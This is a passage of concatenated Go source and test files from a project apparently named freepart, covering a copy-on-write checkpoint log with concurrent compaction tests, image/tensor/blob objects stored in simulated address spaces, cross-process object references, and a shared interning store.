	if !bytes.Equal(got, pl) {
		t.Fatalf("materialized payload = %q, want %q", got, pl)
	}
}

func TestCheckpointLogCompactDuringMigrationWave(t *testing.T) {
	// Compaction racing a live migration wave: writer goroutines keep
	// checkpointing session state (the shards still serving), reader
	// goroutines adopt latest checkpoints (the sessions mid-migration), and
	// the control plane compacts concurrently throughout. At every moment a
	// reader must see a complete, newest-at-read-time version of its key,
	// and the log must stay bounded after the final pass. Run under -race
	// in CI via the partition soak gate.
	l := NewCheckpointLog()
	const sessions, rounds = 16, 50
	keys := make([]CheckpointKey, sessions)
	for i := range keys {
		keys[i] = CheckpointKey{Session: i, Type: 1, Slot: Slot(2, uint64(i))}
		l.Append(keys[i], KindBlob, nil, []byte{0, byte(i)})
	}

	var wg sync.WaitGroup
	// Writers: each session's shard appends new versions through the wave.
	for i := range keys {
		wg.Add(1)
		go func(k CheckpointKey, id int) {
			defer wg.Done()
			for r := 1; r <= rounds; r++ {
				l.Append(k, KindBlob, nil, []byte{byte(r), byte(id)})
			}
		}(keys[i], i)
	}
	// Readers: the migration wave adopts each session's latest repeatedly.
	errs := make(chan error, sessions)
	for i := range keys {
		wg.Add(1)
		go func(k CheckpointKey, id int) {
			defer wg.Done()
			prev := -1
			for r := 0; r < rounds; r++ {
				cp, ok := l.LatestSlot(k.Session, k.Slot)
				if !ok {
					errs <- fmt.Errorf("session %d: latest vanished mid-wave", id)
					return
				}
				if len(cp.Payload) != 2 || cp.Payload[1] != byte(id) {
					errs <- fmt.Errorf("session %d: torn or foreign payload %v", id, cp.Payload)
					return
				}
				if v := int(cp.Payload[0]); v < prev {
					errs <- fmt.Errorf("session %d: version went backwards %d -> %d", id, prev, v)
					return
				} else {
					prev = v
				}
			}
		}(keys[i], i)
	}
	// The control plane: compact after "each migration wave", concurrently
	// with both.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for p := 0; p < 20; p++ {
			l.Compact()
		}
	}()
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	// Bounded memory: the final pass holds one retained version per key.
	l.Compact()
	if got := l.Len(); got != sessions {
		t.Fatalf("log retains %d versions after the wave, want %d", got, sessions)
	}
	// And the newest version per key survived every concurrent pass.
	for i, k := range keys {
		cp, ok := l.Latest(k)
		if !ok || cp.Payload[0] != rounds || cp.Payload[1] != byte(i) {
			t.Fatalf("key %d: latest = %v %v, want round-%d payload", i, ok, cp.Payload, rounds)
		}
	}
}
