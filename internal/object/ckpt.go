package object

import (
	"fmt"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/mem"
)

// CheckpointKey identifies one durable piece of stateful-API state in a
// CheckpointLog: the serving session that owns it, the API type whose agent
// mutates it, and a slot naming the state object within the session (the
// owning agent's pid folded with the object's canonical table id, so two
// state objects held by different agents never collide).
type CheckpointKey struct {
	// Session is the serving-layer session id.
	Session int
	// Type is the API type (a framework.APIType value) whose partition owns
	// the state; migration materializes the checkpoint into the agent homing
	// this type on the destination shard.
	Type uint8
	// Slot names the state object inside the session.
	Slot uint64
}

// Slot folds an owning pid and canonical object id into a CheckpointKey slot.
func Slot(pid uint32, id uint64) uint64 { return uint64(pid)<<32 | id }

// Checkpoint is one immutable version of a key's state: enough to rebuild
// the object in any address space. Payloads are copy-on-write: the log owns
// its copy, readers must not mutate it, and a shard that materializes the
// checkpoint writes into its own space (Rebuild copies).
type Checkpoint struct {
	Key     CheckpointKey
	Version uint64
	Kind    Kind
	Header  []byte
	Payload []byte
}

// Materialize rebuilds the checkpointed object inside space. The log's
// backing bytes are copied, never aliased, so the caller's space owns its
// bytes and the log stays immutable.
func (c Checkpoint) Materialize(space *mem.AddressSpace) (Object, error) {
	return Rebuild(space, Ref{Kind: c.Kind, Header: c.Header}, c.Payload)
}

// CheckpointLogStats counts log activity.
type CheckpointLogStats struct {
	// Appends is how many versions were written.
	Appends uint64
	// Keys is how many distinct keys hold state.
	Keys int
	// Bytes is the total payload volume across all retained versions.
	Bytes uint64
	// Adoptions is how many checkpoints were read for cross-shard adoption.
	Adoptions uint64
	// Compactions is how many compaction passes ran; Retired is how many
	// superseded versions they dropped in total.
	Compactions uint64
	Retired     uint64
}

// CompactStats reports one compaction pass.
type CompactStats struct {
	// Retired is how many superseded versions this pass dropped.
	Retired int
	// Kept is how many versions remain (one per live key).
	Kept int
	// BytesFreed is the payload volume the retired versions held.
	BytesFreed uint64
}

// CheckpointLog is the portable, copy-on-write checkpoint store of the
// serving layer. Agent runtimes append stateful-API state here keyed by
// (session, API type, slot); because the log lives outside any shard's
// kernel, any shard can materialize a session's latest state into its own
// address space — the substrate of shard failover. Appends never mutate
// prior versions (each is a fresh copy), so readers racing an append always
// observe a complete, consistent snapshot. Safe for concurrent use.
type CheckpointLog struct {
	mu      sync.Mutex
	latest  map[CheckpointKey]*Checkpoint
	history []*Checkpoint

	appends     uint64
	bytes       uint64
	adoptions   uint64
	compactions uint64
	retired     uint64
}

// NewCheckpointLog creates an empty log.
func NewCheckpointLog() *CheckpointLog {
	return &CheckpointLog{latest: make(map[CheckpointKey]*Checkpoint)}
}

// Append writes a new version of key's state and returns the version number
// (1 for the first write). The payload and header are copied, so callers may
// reuse their buffers.
func (l *CheckpointLog) Append(key CheckpointKey, kind Kind, header, payload []byte) uint64 {
	cp := &Checkpoint{
		Key:     key,
		Kind:    kind,
		Header:  append([]byte(nil), header...),
		Payload: append([]byte(nil), payload...),
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if prev, ok := l.latest[key]; ok {
		cp.Version = prev.Version + 1
	} else {
		cp.Version = 1
	}
	l.latest[key] = cp
	l.history = append(l.history, cp)
	l.appends++
	l.bytes += uint64(len(cp.Payload))
	return cp.Version
}

// copyOut snapshots a stored checkpoint so callers never alias the log's
// internal storage (the log's copy must stay immutable).
func copyOut(cp *Checkpoint) Checkpoint {
	out := *cp
	out.Header = append([]byte(nil), cp.Header...)
	out.Payload = append([]byte(nil), cp.Payload...)
	return out
}

// Latest returns the newest version of key's state.
func (l *CheckpointLog) Latest(key CheckpointKey) (Checkpoint, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	cp, ok := l.latest[key]
	if !ok {
		return Checkpoint{}, false
	}
	return copyOut(cp), true
}

// LatestSlot returns the newest state for (session, slot) regardless of API
// type — the lookup shard failover uses, because a migrating session knows
// its handles (hence slots) but not which type's agent produced each.
func (l *CheckpointLog) LatestSlot(session int, slot uint64) (Checkpoint, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	var best *Checkpoint
	for key, cp := range l.latest {
		if key.Session != session || key.Slot != slot {
			continue
		}
		// Two types writing one slot cannot happen (a slot embeds its owning
		// agent's pid), but keep the pick deterministic anyway.
		if best == nil || cp.Key.Type < best.Key.Type {
			best = cp
		}
	}
	if best == nil {
		return Checkpoint{}, false
	}
	l.adoptions++
	return copyOut(best), true
}

// Session returns the latest version of every key owned by session, sorted
// by (Type, Slot) so iteration is deterministic.
func (l *CheckpointLog) Session(session int) []Checkpoint {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []Checkpoint
	for key, cp := range l.latest {
		if key.Session == session {
			out = append(out, copyOut(cp))
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Key.Type != out[j].Key.Type {
			return out[i].Key.Type < out[j].Key.Type
		}
		return out[i].Key.Slot < out[j].Key.Slot
	})
	return out
}

// Compact retires every superseded version, keeping only the latest per
// (session, API type, slot) key. Readers only ever resolve Latest/LatestSlot
// versions, so compaction is invisible to failover and adoption; what it
// buys is bounded memory for long-running services — after a pass, retained
// versions equal live keys, however many appends the service has issued.
// The control plane runs it after each migration wave.
func (l *CheckpointLog) Compact() CompactStats {
	l.mu.Lock()
	defer l.mu.Unlock()
	st := CompactStats{Kept: len(l.latest)}
	if len(l.history) == len(l.latest) {
		return st
	}
	kept := make([]*Checkpoint, 0, len(l.latest))
	for _, cp := range l.history {
		if l.latest[cp.Key] == cp {
			kept = append(kept, cp)
			continue
		}
		st.Retired++
		st.BytesFreed += uint64(len(cp.Payload))
	}
	l.history = kept
	l.bytes -= st.BytesFreed
	l.compactions++
	l.retired += uint64(st.Retired)
	return st
}

// Len returns the number of retained versions across all keys.
func (l *CheckpointLog) Len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.history)
}

// Stats returns a snapshot of the log counters.
func (l *CheckpointLog) Stats() CheckpointLogStats {
	l.mu.Lock()
	defer l.mu.Unlock()
	return CheckpointLogStats{
		Appends: l.appends, Keys: len(l.latest),
		Bytes: l.bytes, Adoptions: l.adoptions,
		Compactions: l.compactions, Retired: l.retired,
	}
}

// String summarizes the log on one line.
func (l *CheckpointLog) String() string {
	st := l.Stats()
	return fmt.Sprintf("ckptlog(keys=%d appends=%d bytes=%d adoptions=%d)", st.Keys, st.Appends, st.Bytes, st.Adoptions)
}
