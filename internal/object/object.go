// Package object provides the data objects that flow through framework
// APIs: images (Mat), tensors (Tensor), and raw buffers (Blob). Every
// object's payload lives inside a simulated address space (internal/mem),
// so page permissions and cross-process isolation apply to it for real.
//
// Objects are identified process-locally by an ID in a Table, and cross-
// process by a Ref — the "object reference (without data)" of the paper's
// lazy-data-copy design (Fig. 11): the owning process id plus a buffer
// identifier and a content hash.
package object

import (
	"encoding/binary"
	"fmt"
	"hash/fnv"

	"freepart.dev/freepart/internal/mem"
)

// Kind discriminates object types across the RPC boundary.
type Kind uint8

// Object kinds.
const (
	KindBlob Kind = iota
	KindMat
	KindTensor
)

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindBlob:
		return "blob"
	case KindMat:
		return "mat"
	case KindTensor:
		return "tensor"
	default:
		return fmt.Sprintf("kind(%d)", uint8(k))
	}
}

// Object is a datum materialized in a simulated address space.
type Object interface {
	// Kind identifies the concrete type.
	Kind() Kind
	// Space is the address space holding the payload.
	Space() *mem.AddressSpace
	// Region is the payload's location.
	Region() mem.Region
	// Header returns the type-specific metadata (shape, etc.) used to
	// reconstruct the object after a raw byte transfer.
	Header() []byte
}

// PayloadBytes loads an object's full payload from its space. It fails with
// a mem.Fault if the region is protected against reads.
func PayloadBytes(o Object) ([]byte, error) {
	r := o.Region()
	return o.Space().Load(r.Base, r.Size)
}

// ContentHash hashes the object's payload (used in Refs so stale lazy
// copies are detectable).
func ContentHash(o Object) (uint64, error) {
	b, err := PayloadBytes(o)
	if err != nil {
		return 0, err
	}
	h := fnv.New64a()
	_, _ = h.Write(b)
	return h.Sum64(), nil
}

// Ref is a cross-process object reference carrying no payload: the owning
// process id, the buffer identifier within that process's Table, the
// payload size, the kind, and the header needed to rebuild the object.
type Ref struct {
	PID    uint32
	ID     uint64
	Size   int
	Kind   Kind
	Hash   uint64
	Header []byte
}

// Encode serializes the ref for transfer over a ring buffer.
func (r Ref) Encode() []byte {
	buf := make([]byte, 0, 29+len(r.Header))
	buf = binary.BigEndian.AppendUint32(buf, r.PID)
	buf = binary.BigEndian.AppendUint64(buf, r.ID)
	buf = binary.BigEndian.AppendUint64(buf, uint64(r.Size))
	buf = append(buf, byte(r.Kind))
	buf = binary.BigEndian.AppendUint64(buf, r.Hash)
	buf = append(buf, r.Header...)
	return buf
}

// DecodeRef parses an encoded ref.
func DecodeRef(b []byte) (Ref, error) {
	if len(b) < 29 {
		return Ref{}, fmt.Errorf("object: short ref (%d bytes)", len(b))
	}
	r := Ref{
		PID:  binary.BigEndian.Uint32(b[0:4]),
		ID:   binary.BigEndian.Uint64(b[4:12]),
		Size: int(binary.BigEndian.Uint64(b[12:20])),
		Kind: Kind(b[20]),
		Hash: binary.BigEndian.Uint64(b[21:29]),
	}
	if len(b) > 29 {
		r.Header = append([]byte(nil), b[29:]...)
	}
	return r, nil
}
