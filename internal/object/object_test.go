package object

import (
	"bytes"
	"testing"
	"testing/quick"

	"freepart.dev/freepart/internal/mem"
)

func TestMatBasics(t *testing.T) {
	s := mem.NewSpace()
	m, err := NewMat(s, 4, 6, 3)
	if err != nil {
		t.Fatal(err)
	}
	if m.Rows() != 4 || m.Cols() != 6 || m.Channels() != 3 || m.Size() != 72 {
		t.Fatalf("shape = %v", m)
	}
	if err := m.Set(2, 3, 1, 0x7F); err != nil {
		t.Fatal(err)
	}
	v, err := m.At(2, 3, 1)
	if err != nil || v != 0x7F {
		t.Fatalf("At = %v, %v", v, err)
	}
	if v, _ := m.At(0, 0, 0); v != 0 {
		t.Fatal("untouched pixel should be zero")
	}
}

func TestMatBounds(t *testing.T) {
	s := mem.NewSpace()
	m, _ := NewMat(s, 2, 2, 1)
	for _, c := range [][3]int{{-1, 0, 0}, {2, 0, 0}, {0, 2, 0}, {0, 0, 1}} {
		if _, err := m.At(c[0], c[1], c[2]); err == nil {
			t.Fatalf("At(%v) should fail", c)
		}
		if err := m.Set(c[0], c[1], c[2], 1); err == nil {
			t.Fatalf("Set(%v) should fail", c)
		}
	}
}

func TestMatInvalidShape(t *testing.T) {
	s := mem.NewSpace()
	for _, sh := range [][3]int{{0, 1, 1}, {1, -1, 1}, {1, 1, 0}} {
		if _, err := NewMat(s, sh[0], sh[1], sh[2]); err == nil {
			t.Fatalf("NewMat(%v) should fail", sh)
		}
	}
	if _, err := MatFromBytes(s, 2, 2, 1, []byte{1, 2, 3}); err == nil {
		t.Fatal("MatFromBytes with wrong length should fail")
	}
}

func TestMatRowIO(t *testing.T) {
	s := mem.NewSpace()
	m, _ := NewMat(s, 3, 4, 2)
	row := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	if err := m.SetRow(1, row); err != nil {
		t.Fatal(err)
	}
	got, err := m.Row(1)
	if err != nil || !bytes.Equal(got, row) {
		t.Fatalf("Row = %v, %v", got, err)
	}
	if _, err := m.Row(5); err == nil {
		t.Fatal("out-of-range Row should fail")
	}
	if err := m.SetRow(0, []byte{1}); err == nil {
		t.Fatal("short SetRow should fail")
	}
}

func TestMatCloneIntoOtherSpace(t *testing.T) {
	a, b := mem.NewSpace(), mem.NewSpace()
	m, _ := NewMat(a, 2, 2, 1)
	_ = m.Set(0, 0, 0, 42)
	c, err := m.CloneInto(b)
	if err != nil {
		t.Fatal(err)
	}
	if c.Space() != b {
		t.Fatal("clone should live in destination space")
	}
	v, _ := c.At(0, 0, 0)
	if v != 42 {
		t.Fatalf("clone pixel = %d", v)
	}
	// Mutating the clone leaves the original untouched (deep copy).
	_ = c.Set(0, 0, 0, 7)
	v, _ = m.At(0, 0, 0)
	if v != 42 {
		t.Fatal("deep copy violated")
	}
}

func TestMatRespectsPermissions(t *testing.T) {
	s := mem.NewSpace()
	m, _ := NewMat(s, 8, 8, 1)
	if _, err := s.ProtectRegion(m.Region(), mem.PermRead); err != nil {
		t.Fatal(err)
	}
	if err := m.Set(0, 0, 0, 1); err == nil {
		t.Fatal("Set on read-only mat should fault")
	}
	if _, err := m.At(0, 0, 0); err != nil {
		t.Fatalf("At on read-only mat should work: %v", err)
	}
}

func TestMatHeaderRoundTrip(t *testing.T) {
	s := mem.NewSpace()
	m, _ := NewMat(s, 5, 7, 3)
	r, c, ch, err := MatShapeFromHeader(m.Header())
	if err != nil || r != 5 || c != 7 || ch != 3 {
		t.Fatalf("header round trip = %d,%d,%d,%v", r, c, ch, err)
	}
	if _, _, _, err := MatShapeFromHeader([]byte{1, 2}); err == nil {
		t.Fatal("short header should fail")
	}
}

func TestTensorBasics(t *testing.T) {
	s := mem.NewSpace()
	ten, err := NewTensor(s, 2, 3)
	if err != nil {
		t.Fatal(err)
	}
	if ten.Len() != 6 || ten.Size() != 48 {
		t.Fatalf("len/size = %d/%d", ten.Len(), ten.Size())
	}
	if err := ten.Set(3.14, 1, 2); err != nil {
		t.Fatal(err)
	}
	v, err := ten.At(1, 2)
	if err != nil || v != 3.14 {
		t.Fatalf("At = %v, %v", v, err)
	}
	if v, _ := ten.At(0, 0); v != 0 {
		t.Fatal("untouched element should be zero")
	}
}

func TestTensorBounds(t *testing.T) {
	s := mem.NewSpace()
	ten, _ := NewTensor(s, 2, 2)
	if _, err := ten.At(2, 0); err == nil {
		t.Fatal("out-of-range At should fail")
	}
	if err := ten.Set(1, 0); err == nil {
		t.Fatal("wrong-arity Set should fail")
	}
	if _, err := ten.AtFlat(4); err == nil {
		t.Fatal("out-of-range AtFlat should fail")
	}
	if err := ten.SetFlat(-1, 0); err == nil {
		t.Fatal("negative SetFlat should fail")
	}
}

func TestTensorInvalidShape(t *testing.T) {
	s := mem.NewSpace()
	if _, err := NewTensor(s); err == nil {
		t.Fatal("empty shape should fail")
	}
	if _, err := NewTensor(s, 2, 0); err == nil {
		t.Fatal("zero dim should fail")
	}
}

func TestTensorFromValuesAndClone(t *testing.T) {
	a, b := mem.NewSpace(), mem.NewSpace()
	ten, err := TensorFromValues(a, []float64{1.5, -2.5, 0})
	if err != nil {
		t.Fatal(err)
	}
	cl, err := ten.CloneInto(b)
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []float64{1.5, -2.5, 0} {
		if v, _ := cl.AtFlat(i); v != want {
			t.Fatalf("clone[%d] = %v, want %v", i, v, want)
		}
	}
}

func TestTensorHeaderRoundTrip(t *testing.T) {
	s := mem.NewSpace()
	ten, _ := NewTensor(s, 2, 3, 4)
	shape, err := TensorShapeFromHeader(ten.Header())
	if err != nil || len(shape) != 3 || shape[0] != 2 || shape[1] != 3 || shape[2] != 4 {
		t.Fatalf("shape = %v, %v", shape, err)
	}
	if _, err := TensorShapeFromHeader([]byte{0}); err == nil {
		t.Fatal("short tensor header should fail")
	}
}

func TestTensorSetAtProperty(t *testing.T) {
	s := mem.NewSpace()
	ten, _ := NewTensor(s, 16)
	f := func(i uint8, v float64) bool {
		idx := int(i) % 16
		if err := ten.SetFlat(idx, v); err != nil {
			return false
		}
		got, err := ten.AtFlat(idx)
		return err == nil && (got == v || (got != got && v != v)) // NaN-safe
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestBlob(t *testing.T) {
	s := mem.NewSpace()
	b, err := NewBlob(s, []byte("model weights"))
	if err != nil {
		t.Fatal(err)
	}
	got, err := b.Bytes()
	if err != nil || string(got) != "model weights" {
		t.Fatalf("Bytes = %q, %v", got, err)
	}
	if b.Size() != 13 || b.Kind() != KindBlob || b.Header() != nil {
		t.Fatalf("blob metadata wrong: %d %v", b.Size(), b.Kind())
	}
	if _, err := NewBlob(s, nil); err == nil {
		t.Fatal("empty blob should fail")
	}
	c, err := b.CloneInto(mem.NewSpace())
	if err != nil {
		t.Fatal(err)
	}
	cb, _ := c.Bytes()
	if string(cb) != "model weights" {
		t.Fatal("blob clone mismatch")
	}
}

func TestTablePutGetDelete(t *testing.T) {
	s := mem.NewSpace()
	tab := NewTable(42)
	m, _ := NewMat(s, 2, 2, 1)
	id := tab.Put(m)
	got, ok := tab.Get(id)
	if !ok || got != Object(m) {
		t.Fatalf("Get = %v, %v", got, ok)
	}
	if tab.Len() != 1 {
		t.Fatal("Len wrong")
	}
	tab.Delete(id)
	if _, ok := tab.Get(id); ok {
		t.Fatal("deleted object still present")
	}
}

func TestTableIDsUnique(t *testing.T) {
	s := mem.NewSpace()
	tab := NewTable(1)
	m, _ := NewMat(s, 1, 1, 1)
	a, b := tab.Put(m), tab.Put(m)
	if a == b {
		t.Fatal("ids must be unique")
	}
}

func TestTableClear(t *testing.T) {
	s := mem.NewSpace()
	tab := NewTable(1)
	m, _ := NewMat(s, 1, 1, 1)
	tab.Put(m)
	tab.Clear()
	if tab.Len() != 0 {
		t.Fatal("Clear should empty the table")
	}
}

func TestRefEncodeDecodeRoundTrip(t *testing.T) {
	s := mem.NewSpace()
	tab := NewTable(9)
	m, _ := NewMat(s, 3, 3, 1)
	_ = m.Set(1, 1, 0, 200)
	id := tab.Put(m)
	ref, err := tab.RefFor(id)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := DecodeRef(ref.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if dec.PID != 9 || dec.ID != id || dec.Size != 9 || dec.Kind != KindMat || dec.Hash != ref.Hash {
		t.Fatalf("decoded = %+v, want %+v", dec, ref)
	}
	if !bytes.Equal(dec.Header, ref.Header) {
		t.Fatal("header lost in round trip")
	}
}

func TestDecodeRefShort(t *testing.T) {
	if _, err := DecodeRef([]byte{1, 2, 3}); err == nil {
		t.Fatal("short ref should fail to decode")
	}
}

func TestRefForMissing(t *testing.T) {
	tab := NewTable(1)
	if _, err := tab.RefFor(99); err == nil {
		t.Fatal("RefFor of missing id should fail")
	}
}

func TestRefHashChangesWithContent(t *testing.T) {
	s := mem.NewSpace()
	tab := NewTable(1)
	m, _ := NewMat(s, 2, 2, 1)
	id := tab.Put(m)
	r1, _ := tab.RefFor(id)
	_ = m.Set(0, 0, 0, 99)
	r2, _ := tab.RefFor(id)
	if r1.Hash == r2.Hash {
		t.Fatal("content hash should change when payload changes")
	}
}

func TestRebuildMat(t *testing.T) {
	src, dst := mem.NewSpace(), mem.NewSpace()
	tab := NewTable(1)
	m, _ := MatFromBytes(src, 2, 2, 1, []byte{1, 2, 3, 4})
	id := tab.Put(m)
	ref, _ := tab.RefFor(id)
	payload, _ := PayloadBytes(m)
	o, err := Rebuild(dst, ref, payload)
	if err != nil {
		t.Fatal(err)
	}
	rm, ok := o.(*Mat)
	if !ok || rm.Rows() != 2 || rm.Cols() != 2 {
		t.Fatalf("rebuilt = %v", o)
	}
	v, _ := rm.At(1, 1, 0)
	if v != 4 {
		t.Fatalf("rebuilt pixel = %d", v)
	}
}

func TestRebuildTensorAndBlob(t *testing.T) {
	src, dst := mem.NewSpace(), mem.NewSpace()
	tab := NewTable(1)

	ten, _ := TensorFromValues(src, []float64{5, 6})
	tid := tab.Put(ten)
	tref, _ := tab.RefFor(tid)
	tp, _ := PayloadBytes(ten)
	o, err := Rebuild(dst, tref, tp)
	if err != nil {
		t.Fatal(err)
	}
	rt := o.(*Tensor)
	if v, _ := rt.AtFlat(1); v != 6 {
		t.Fatalf("rebuilt tensor[1] = %v", v)
	}

	bl, _ := NewBlob(src, []byte("xyz"))
	bid := tab.Put(bl)
	bref, _ := tab.RefFor(bid)
	bp, _ := PayloadBytes(bl)
	o, err = Rebuild(dst, bref, bp)
	if err != nil {
		t.Fatal(err)
	}
	rb := o.(*Blob)
	if got, _ := rb.Bytes(); string(got) != "xyz" {
		t.Fatalf("rebuilt blob = %q", got)
	}
}

func TestRebuildBadPayload(t *testing.T) {
	src, dst := mem.NewSpace(), mem.NewSpace()
	tab := NewTable(1)
	ten, _ := NewTensor(src, 4)
	ref, _ := tab.RefFor(tab.Put(ten))
	if _, err := Rebuild(dst, ref, []byte{1, 2}); err == nil {
		t.Fatal("tensor rebuild with short payload should fail")
	}
	ref.Kind = Kind(99)
	if _, err := Rebuild(dst, ref, nil); err == nil {
		t.Fatal("unknown kind should fail")
	}
}

func TestContentHashBlockedByPermNone(t *testing.T) {
	s := mem.NewSpace()
	m, _ := NewMat(s, 2, 2, 1)
	_, _ = s.ProtectRegion(m.Region(), mem.PermNone)
	if _, err := ContentHash(m); err == nil {
		t.Fatal("hash of unreadable object should fault")
	}
}
