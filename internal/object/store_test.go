package object

import (
	"bytes"
	"errors"
	"sync"
	"sync/atomic"
	"testing"

	"freepart.dev/freepart/internal/mem"
)

func TestStoreInternBuildsOnce(t *testing.T) {
	s := NewStore()
	var builds atomic.Int32
	build := func() ([]byte, error) {
		builds.Add(1)
		return []byte("weights-v1"), nil
	}

	first, err := s.Intern("model", KindBlob, nil, build)
	if err != nil {
		t.Fatalf("Intern: %v", err)
	}
	second, err := s.Intern("model", KindBlob, nil, build)
	if err != nil {
		t.Fatalf("Intern (hit): %v", err)
	}
	if first != second {
		t.Fatal("second Intern returned a different Immutable")
	}
	if got := builds.Load(); got != 1 {
		t.Fatalf("builder ran %d times, want 1", got)
	}
	st := s.Stats()
	if st.Builds != 1 || st.Hits != 1 {
		t.Fatalf("stats = %+v, want 1 build / 1 hit", st)
	}
	if st.SharedBytes != uint64(first.Size()) {
		t.Fatalf("SharedBytes = %d, want %d", st.SharedBytes, first.Size())
	}
	if s.Len() != 1 {
		t.Fatalf("Len = %d, want 1", s.Len())
	}
}

func TestStoreInternConcurrentSingleFlight(t *testing.T) {
	s := NewStore()
	var builds atomic.Int32
	const callers = 16
	results := make([]*Immutable, callers)
	var wg sync.WaitGroup
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			im, err := s.Intern("tpl", KindBlob, nil, func() ([]byte, error) {
				builds.Add(1)
				return []byte("template"), nil
			})
			if err != nil {
				t.Errorf("Intern: %v", err)
				return
			}
			results[i] = im
		}(i)
	}
	wg.Wait()
	if got := builds.Load(); got != 1 {
		t.Fatalf("builder ran %d times under contention, want 1", got)
	}
	for i := 1; i < callers; i++ {
		if results[i] != results[0] {
			t.Fatalf("caller %d got a distinct Immutable", i)
		}
	}
}

func TestStoreSharedBytesIdentity(t *testing.T) {
	s := NewStore()
	im, err := s.Intern("blob", KindBlob, nil, func() ([]byte, error) {
		return []byte{1, 2, 3, 4}, nil
	})
	if err != nil {
		t.Fatalf("Intern: %v", err)
	}
	a, b := im.Bytes(), im.Bytes()
	if &a[0] != &b[0] {
		t.Fatal("Bytes did not return the shared backing array")
	}
	c := im.MutableCopy()
	if &c[0] == &a[0] {
		t.Fatal("MutableCopy aliases the shared payload")
	}
	c[0] = 99
	if a[0] != 1 {
		t.Fatal("mutating the copy leaked into the shared payload")
	}
	if !bytes.Equal(a, []byte{1, 2, 3, 4}) {
		t.Fatalf("shared payload corrupted: %v", a)
	}
}

func TestStoreInternBuildError(t *testing.T) {
	s := NewStore()
	boom := errors.New("boom")
	if _, err := s.Intern("bad", KindBlob, nil, func() ([]byte, error) { return nil, boom }); !errors.Is(err, boom) {
		t.Fatalf("Intern error = %v, want %v", err, boom)
	}
	// The failed build is sticky — later interns see the same error and the
	// artifact never appears in lookups.
	if _, err := s.Intern("bad", KindBlob, nil, func() ([]byte, error) { return []byte("x"), nil }); !errors.Is(err, boom) {
		t.Fatalf("second Intern error = %v, want sticky %v", err, boom)
	}
	if _, ok := s.Get("bad"); ok {
		t.Fatal("failed artifact is visible via Get")
	}
	if s.Len() != 0 {
		t.Fatalf("Len = %d, want 0", s.Len())
	}
	if _, err := s.Intern("empty", KindBlob, nil, func() ([]byte, error) { return nil, nil }); err == nil {
		t.Fatal("empty build succeeded, want error")
	}
}

func TestImmutableMaterializeMemoizedPerSpace(t *testing.T) {
	s := NewStore()
	im, err := s.Intern("model", KindBlob, nil, func() ([]byte, error) {
		return []byte("shared-model-weights"), nil
	})
	if err != nil {
		t.Fatalf("Intern: %v", err)
	}

	spaceA, spaceB := mem.NewSpace(), mem.NewSpace()
	oa1, err := im.Materialize(spaceA)
	if err != nil {
		t.Fatalf("Materialize A: %v", err)
	}
	oa2, err := im.Materialize(spaceA)
	if err != nil {
		t.Fatalf("Materialize A again: %v", err)
	}
	if oa1 != oa2 {
		t.Fatal("second materialize into the same space was not memoized")
	}
	ob, err := im.Materialize(spaceB)
	if err != nil {
		t.Fatalf("Materialize B: %v", err)
	}
	if ob == oa1 {
		t.Fatal("distinct spaces shared one materialized object")
	}
	if im.Materialized() != 2 {
		t.Fatalf("Materialized = %d, want 2", im.Materialized())
	}

	got, err := PayloadBytes(ob)
	if err != nil {
		t.Fatalf("PayloadBytes: %v", err)
	}
	if !bytes.Equal(got, im.Bytes()) {
		t.Fatal("materialized payload differs from shared bytes")
	}
}

func TestImmutableMaterializeConcurrent(t *testing.T) {
	s := NewStore()
	im, err := s.Intern("m", KindBlob, nil, func() ([]byte, error) {
		return []byte("payload"), nil
	})
	if err != nil {
		t.Fatalf("Intern: %v", err)
	}
	space := mem.NewSpace()
	const callers = 8
	objs := make([]Object, callers)
	var wg sync.WaitGroup
	for i := 0; i < callers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			o, err := im.Materialize(space)
			if err != nil {
				t.Errorf("Materialize: %v", err)
				return
			}
			objs[i] = o
		}(i)
	}
	wg.Wait()
	for i := 1; i < callers; i++ {
		if objs[i] != objs[0] {
			t.Fatal("concurrent materializations into one space diverged")
		}
	}
	if im.Materialized() != 1 {
		t.Fatalf("Materialized = %d, want 1", im.Materialized())
	}
}
