package object

import (
	"encoding/binary"
	"fmt"
	"math"

	"freepart.dev/freepart/internal/mem"
)

// Tensor is an n-dimensional float64 array backed by simulated memory,
// modeled on PyTorch/TensorFlow tensors. Elements are stored row-major,
// 8 bytes each, big-endian.
type Tensor struct {
	shape  []int
	space  *mem.AddressSpace
	region mem.Region
}

// NewTensor allocates a zeroed tensor with the given shape.
func NewTensor(space *mem.AddressSpace, shape ...int) (*Tensor, error) {
	n := 1
	for _, d := range shape {
		if d <= 0 {
			return nil, fmt.Errorf("object: invalid tensor dim %d in %v", d, shape)
		}
		n *= d
	}
	if len(shape) == 0 {
		return nil, fmt.Errorf("object: tensor needs at least one dimension")
	}
	r, err := space.Alloc(n * 8)
	if err != nil {
		return nil, err
	}
	return &Tensor{shape: append([]int(nil), shape...), space: space, region: r}, nil
}

// TensorFromValues allocates a 1-D tensor initialized with vals.
func TensorFromValues(space *mem.AddressSpace, vals []float64) (*Tensor, error) {
	t, err := NewTensor(space, len(vals))
	if err != nil {
		return nil, err
	}
	for i, v := range vals {
		if err := t.SetFlat(i, v); err != nil {
			return nil, err
		}
	}
	return t, nil
}

// Kind implements Object.
func (t *Tensor) Kind() Kind { return KindTensor }

// Space implements Object.
func (t *Tensor) Space() *mem.AddressSpace { return t.space }

// Region implements Object.
func (t *Tensor) Region() mem.Region { return t.region }

// Shape returns the tensor's dimensions.
func (t *Tensor) Shape() []int { return append([]int(nil), t.shape...) }

// Len returns the number of elements.
func (t *Tensor) Len() int {
	n := 1
	for _, d := range t.shape {
		n *= d
	}
	return n
}

